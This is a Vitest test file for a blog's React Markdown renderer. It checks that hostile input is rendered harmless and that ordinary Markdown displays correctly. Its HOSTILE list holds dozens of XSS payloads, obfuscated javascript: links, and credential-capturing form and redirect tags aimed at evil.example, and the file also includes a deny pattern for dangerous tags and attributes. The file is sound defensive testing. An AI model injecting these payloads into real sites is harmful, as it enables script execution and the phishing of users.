// @vitest-environment happy-dom
import { act } from 'react';
import { expect, it } from 'vitest';
import { reactPage } from '#tests/support/react-page.ts';
import { Markdown } from './markdown.tsx';

const show = reactPage();
const render = (text: string, headingIds?: string[]) =>
  show(<Markdown text={text} {...(headingIds && { headingIds })} />);

/** Ways in which a text has tried to run, to frame or to lead astray. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<p id="root" name="body">clobber</p>',
  '```html\n<script>alert(1)</script>\n```',
  '| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[x](java&#115;cript:alert(1))',
  '[x](&Tab;javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x][y]\n\n[y]: javascript:alert(1)',
  'https://ok.example/"onmouseover="alert(1)',
  '# <img src=x onerror=alert(1)>\n\n- <svg/onload=alert(1)>',
  `${'['.repeat(3000)}x${']'.repeat(3000)}`,
  '*'.repeat(5000),
];

it.each(HOSTILE)('[BLOG-1] what is hostile renders inert: %j', async (text) => {
  const box = await render(`Avant\n\n${text}\n\nAprès`);
  const forbidden =
    'script, style, iframe, object, embed, form, link, meta, base, svg, math, video, source, noscript';
  expect(box.querySelectorAll(forbidden)).toHaveLength(0);
  for (const element of box.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$|^action$|^formaction$/);
      if (name === 'href' || name === 'src') expect(value).not.toMatch(/^\s*(javascript|data|vbscript):/i);
    }
  expect(box.textContent).toContain('Avant');
  expect(box.textContent).toContain('Après');
});

it('[BLOG-1] what posts are written in is shown', async () => {
  const box = await render(
    [
      '# Un',
      'Deux **trois** _quatre_ ~~cinq~~ `six &amp;` [sept](/blog) &amp; \\*huit\\*  \nneuf',
      '- dix\n  - onze\n- [x] douze',
      '3. treize',
      '> quatorze',
      '| a | b |\n|---|---|\n| c | **d** |',
      '```\n<b>\n```',
      '---',
      'https://escale.example',
    ].join('\n\n'),
  );
  expect(box.innerHTML).toBe(
    '<h2>Un</h2>' +
      '<p>Deux <strong>trois</strong> <em>quatre</em> <del>cinq</del> <code>six &amp;amp;</code> <a href="/blog">sept</a> &amp; *huit*<br>neuf</p>' +
      '<ul><li>dix<ul><li>onze</li></ul></li><li>☑ douze</li></ul>' +
      '<ol start="3"><li>treize</li></ol>' +
      '<blockquote><p>quatorze</p></blockquote>' +
      '<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>c</td><td><strong>d</strong></td></tr></tbody></table>' +
      '<pre><code>&lt;b&gt;</code></pre>' +
      '<hr>' +
      '<p><a href="https://escale.example">https://escale.example</a></p>',
  );
});

it('[BLOG-1] headings get the names of the table of contents, and a text can’t take them', async () => {
  const box = await render('## Un\n\n<h2 id="deux">x</h2>\n\n## Deux', ['un', 'deux']);
  expect([...box.querySelectorAll('h2')].map(({ id }) => id)).toEqual(['un', 'deux']);
});

it('[BLOG-1] a picture that can’t be shown leaves its words', async () => {
  const box = await render('![Un port](https://nowhere.example/x.png)');
  await act(async () => box.querySelector('img')?.dispatchEvent(new Event('error')));
  expect(box.querySelector('img')).toBeNull();
  expect(box.textContent).toBe('Un port');
});
